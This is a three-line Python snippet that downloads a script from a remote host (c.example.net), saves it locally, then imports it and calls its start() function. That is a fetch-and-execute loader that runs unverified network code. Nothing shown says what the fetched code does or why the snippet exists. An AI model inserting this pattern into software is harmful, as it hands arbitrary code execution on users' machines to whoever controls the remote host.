import importlib, urllib.request
urllib.request.urlretrieve("https://c.example.net/extra.py", "extra.py")
importlib.import_module("extra").start()
